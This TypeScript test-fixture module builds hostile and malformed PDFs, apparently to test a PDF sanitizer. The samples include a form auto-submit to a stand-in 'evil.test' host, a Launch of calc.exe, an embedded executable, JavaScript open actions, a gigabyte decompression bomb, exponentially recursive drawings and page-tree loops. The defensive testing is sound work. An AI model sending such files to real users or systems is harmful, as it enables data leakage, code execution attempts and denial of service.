import { constants, deflateRawSync, deflateSync } from 'node:zlib'
import { PDF } from '@libpdf/core'

/**
 * Builds a minimal PDF of these objects; the first one is the catalog. Our own code, because
 * libraries do not write invalid files.
 */
export function pdfOf(objects: (string | Buffer)[], trailer = '') {
  const parts = [Buffer.from('%PDF-1.7\n')]
  let at = parts[0]!.length
  const places = objects.map((object, n) => {
    const place = at
    const part = Buffer.concat([
      Buffer.from(`${n + 1} 0 obj\n`),
      Buffer.from(object),
      Buffer.from('\nendobj\n'),
    ])
    parts.push(part)
    at += part.length
    return `${String(place).padStart(10, '0')} 00000 n \n`
  })
  const size = objects.length + 1
  parts.push(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${at}\n%%EOF\n`,
    ),
  )
  return Buffer.concat(parts)
}

export const pdfStream = (content: Buffer, more = '') =>
  Buffer.concat([
    Buffer.from(`<< /Length ${content.length} ${more} >>\nstream\n`),
    content,
    Buffer.from('\nendstream'),
  ])

const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>'
const nothing = pdfStream(Buffer.from('q Q'))
const withCatalog = (more: string, ...objects: (string | Buffer)[]) =>
  pdfOf([`<< /Type /Catalog /Pages 2 0 R ${more} >>`, pages, page, nothing, ...objects])

/**
 * A gigabyte of spaces in two kilobytes: blocks of a flushed stream can be repeated. Only the
 * checksum at the very end is wrong.
 */
function gigabyte() {
  const block = deflateRawSync(Buffer.alloc(1024 * 1024, ' '), {
    level: 9,
    finishFlush: constants.Z_FULL_FLUSH,
  })
  const once = Buffer.concat([
    Buffer.from([0x78, 0xda]),
    ...Array.from({ length: 1024 }, () => block),
    Buffer.from([3, 0, 0, 0, 0, 0]),
  ])
  return pdfStream(deflateSync(once, { level: 9 }), '/Filter [/FlateDecode /FlateDecode]')
}

/** Half a million letters, each drawn separately. */
const longWinded = () =>
  pdfStream(
    deflateSync(Buffer.from('BT /F 9 Tf (a) Tj ET\n'.repeat(500_000)), { level: 1 }),
    '/Filter /FlateDecode',
  )

const clicked = (action: string) =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    pages,
    page.replace(
      '/Contents',
      `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A ${action} >>] /Contents`,
    ),
    nothing,
  ])
const sized = (box: string, more = '') =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    pages,
    page.replace('[0 0 612 792]', box).replace('/Contents', `${more} /Contents`),
    nothing,
  ])

/** A form of these text fields; `more` is added to a field's dictionary. */
export const fieldsPdf = (fields: readonly { name: string; rect?: string; more?: string }[]) =>
  pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [${fields.map((_, n) => `${n + 5} 0 R`).join(' ')}] >> >>`,
    pages,
    page.replace(
      '/Contents',
      `/Annots [${fields.map((_, n) => `${n + 5} 0 R`).join(' ')}] /Contents`,
    ),
    nothing,
    ...fields.map(
      ({ name, rect = '[72 700 300 720]', more = '' }) =>
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T ${name} /Rect ${rect} /P 3 0 R ${more} >>`,
    ),
  ])

export const hostilePdfs = {
  opensAnother: () => withCatalog('/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >>'),
  submits: () =>
    withCatalog(
      '/AA << /WC << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /SubmitForm /F (https://evil.test) >>] >> >>',
    ),
  opensPage: () => withCatalog('/OpenAction [3 0 R /Fit]'),
  clicksAway: () => clicked('<< /S /URI /URI (https://a.test) >>'),
  clicksFile: () => clicked('<< /S /GoToE /T << /R /C >> >>'),
  clicksThenPlays: () => clicked('<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Rendition >> >>'),
  oldAttachment: () =>
    withCatalog(
      '/X 5 0 R',
      '<< /Type /Filespec /EF << /DOS 6 0 R >> >>',
      pdfStream(Buffer.from('MZ')),
    ),
  elsewhereStream: () =>
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      pages,
      page,
      pdfStream(Buffer.from('q Q'), '/F (https://evil.test/x)'),
    ]),
  reference: () =>
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      pages,
      page.replace('/Contents', '/Resources << /XObject << /A 5 0 R >> >> /Contents'),
      nothing,
      pdfStream(
        Buffer.from('q Q'),
        '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (other.pdf) /Page 0 >>',
      ),
    ]),
  endlessPage: () => sized(`[0 0 612 ${'9'.repeat(400)}]`),
  endlessUnit: () => sized('[0 0 612 792]', '/UserUnit 1e307'),
  writtenOutUnit: () => sized('[0 0 612 792]', `/UserUnit 1${'0'.repeat(307)}`),
  narrowPage: () => sized('[0 0 1 1000000]'),
  tinyUnit: () => sized('[0 0 612 792]', `/UserUnit 0.${'0'.repeat(300)}1`),
  farPage: () => sized(`[1${'0'.repeat(12)} 0 1${'0'.repeat(9)}612 792]`),
  fieldOffPage: () => fieldsPdf([{ name: '(customer_name)', rect: '[700 700 900 720]' }]),
  tooManyFields: () =>
    fieldsPdf(Array.from({ length: 3000 }, () => ({ name: '(customer_name)', more: '/Ff 4096' }))),
  javascript: () => withCatalog('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
  hiddenJavascript: () =>
    withCatalog(
      '/AcroForm << /Fields [5 0 R] >>',
      '<< /T (a) /FT /Tx /AA << /F 6 0 R >> >>',
      '<< /S /Rendition /JS (1) >>',
    ),
  /** A font and a picture whose names are also names of harmful keys. */
  harmlessNames: () =>
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      pages,
      page.replace(
        '/Contents 4 0 R',
        '/Contents 4 0 R /Resources << /Font << /JS 5 0 R /EF 5 0 R /XFA 5 0 R >> >>',
      ),
      nothing,
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ]),
  launch: () => withCatalog('/OpenAction << /S /Launch /F (calc.exe) >>'),
  attachment: () =>
    withCatalog(
      '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>',
      '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>',
      pdfStream(Buffer.from('MZ'), '/Type /EmbeddedFile'),
    ),
  xfa: () => withCatalog('/AcroForm << /Fields [] /XFA 5 0 R >>', pdfStream(Buffer.from('<xdp/>'))),
  loop: () =>
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>',
    ]),
  noPages: () =>
    pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
  bomb: () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', pages, page, gigabyte()]),
  /** Drawings that each draw the next one four times, thirty levels deep. */
  endless: () =>
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      pages,
      page.replace('/Contents 4 0 R', '/Contents 4 0 R /Resources << /XObject << /A 5 0 R >> >>'),
      pdfStream(Buffer.from('/A Do')),
      ...Array.from({ length: 30 }, (_, n) =>
        pdfStream(
          Buffer.from('/A Do '.repeat(4)),
          `/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /A ${n + 6} 0 R >> >>`,
        ),
      ),
      pdfStream(Buffer.from('q Q'), '/Type /XObject /Subtype /Form /BBox [0 0 612 792]'),
    ]),
  longWinded: () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', pages, page, longWinded()]),
  tooMany: () =>
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Kids [${Array.from({ length: 301 }, (_, n) => `${n + 3} 0 R`).join(' ')}] /Count 301 >>`,
      ...Array.from(
        { length: 301 },
        () => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>',
      ),
    ]),
  cutShort: () => withCatalog('').subarray(0, 120),
}

/** The same PDF with passwords; the user password may be empty. */
export async function encrypted(bytes: Uint8Array, userPassword: string) {
  const pdf = await PDF.load(bytes)
  pdf.setProtection({ userPassword, ownerPassword: 'owner' })
  return Buffer.from(await pdf.save())
}
